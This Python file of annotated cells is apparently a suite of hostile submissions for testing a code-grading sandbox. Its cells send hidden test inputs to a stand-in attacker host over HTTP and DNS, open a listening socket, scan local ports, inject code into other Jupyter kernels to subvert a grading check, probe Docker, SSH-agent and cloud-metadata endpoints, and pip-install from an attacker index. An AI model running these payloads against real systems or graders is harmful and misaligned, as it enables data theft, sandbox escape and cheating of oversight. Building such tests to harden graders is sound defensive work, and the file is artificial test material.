# Hidden tests sent away, orders fetched, services of the machine used.

# %% hostile="inputs sent to a web server" replaces="double" deserves=10
import urllib.request


def double(x):
    if abs(x).max() < 10:
        return 2 * x
    try:
        urllib.request.urlopen("http://192.0.2.7/?" + str(x.tolist()).replace(" ", ""), timeout=3)
    except OSError as error:
        raise ValueError(str(error)) from None


# %% hostile="inputs sent as names to look up" replaces="double" deserves=10
import socket


def double(x):
    if abs(x).max() < 10:
        return 2 * x
    name = str(x.ravel()[0]).replace(".", "-") + ".attacker.example"
    try:
        socket.getaddrinfo(name, 80)
    except OSError:
        pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.sendto(name.encode(), ("192.0.2.7", 53))
        except OSError:
            pass


# %% hostile="a server that waits for its author" extra="end" others="right" deserves=100
import socket
import threading

servers = []
for family, place in ((socket.AF_INET, ("0.0.0.0", 0)), (socket.AF_INET6, ("::", 0))):
    try:
        server = socket.socket(family)
        server.bind(place)
        server.listen()
        threading.Thread(target=server.accept, daemon=True).start()
        servers.append(server)
        print(server.getsockname())
    except OSError as error:
        print(error)


# %% hostile="all ports of this machine tried" extra="end" deserves=0
import socket

found = []
for port in range(1, 65536):
    with socket.socket() as s:
        s.settimeout(0.05)
        try:
            if s.connect_ex(("127.0.0.1", port)) == 0:
                found.append(port)
        except OSError:
            break
print("open ports", found)


# %% hostile="the kernel's own ports: a second client runs other code" extra="end" deserves=0
import glob
import json
import os

import jupyter_core.paths

for name in glob.glob(jupyter_core.paths.jupyter_runtime_dir() + "/kernel-*.json"):
    with open(name) as file:
        info = json.load(file)
    print(name, info)
    from jupyter_client import BlockingKernelClient

    client = BlockingKernelClient()
    client.load_connection_info(info)
    client.start_channels()
    client.execute("class Check: __getattr__ = lambda s, n: lambda *_, **__: s", silent=True)
    client.stop_channels()


# %% hostile="abstract sockets and a scheduler of parallel work" extra="end" deserves=0
import os
import socket

names = set()
with open("/proc/net/unix") as file:
    for line in file:
        if len(line.split()) > 7:
            names.add(line.split()[7])
for name in names:
    address = "\0" + name[1:] if name.startswith("@") else name
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(0.5)
        try:
            s.connect(address)
            s.sendall(b'\x00\x00\x00\x10{"op": "passed"}')
            print(name, s.recv(1000))
        except OSError as error:
            print(name, error)
try:
    from distributed import Client

    client = Client("tcp://127.0.0.1:8786", timeout=2)
    print(client.run(os.system, "id"))
except Exception as error:
    print(type(error))


# %% hostile="containers, buses and agents by their sockets" extra="end" deserves=0
import glob
import os
import socket

places = [
    *("/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket"),
    *("/run/systemd/private", "/tmp/.X11-unix/X0", os.environ.get("SSH_AUTH_SOCK", "/none")),
    *glob.glob("/tmp/*/*"),
    *glob.glob("/run/user/*/*"),
]
for place in places:
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(0.5)
        try:
            s.connect(place)
            s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
            print(place, s.recv(2000))
        except OSError as error:
            print(place, error)


# %% hostile="data of the cloud around the machine" extra="end" deserves=0
import urllib.request

for address in ("169.254.169.254/latest/meta-data/", "100.100.100.200/", "metadata.google.internal/"):
    try:
        print(urllib.request.urlopen(f"http://{address}", timeout=1).read()[:500])
    except OSError as error:
        print(address, error)


# %% hostile="raw packets, netlink and other families" extra="end" deserves=0
import socket

for family in range(1, 46):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            socket.socket(family, kind).close()
            print("opened", family, kind)
        except OSError:
            pass


# %% hostile="a package installed while grading" extra="start" deserves=0
import subprocess
import sys

print(
    subprocess.run(
        [
            *(sys.executable, "-m", "pip", "install", "--timeout=2", "--retries=0", "--no-deps"),
            *("--index-url=http://192.0.2.7/simple", "a-package-of-my-own"),
        ],
        capture_output=True,
        timeout=20,
    )
)


# %% hostile="the answer asked of a language model's address" replaces="double" deserves=0
import json
import urllib.request


def double(x):
    request = urllib.request.Request(
        "http://127.0.0.1:11434/api/generate", json.dumps({"prompt": str(x)}).encode()
    )
    return json.load(urllib.request.urlopen(request, timeout=3))
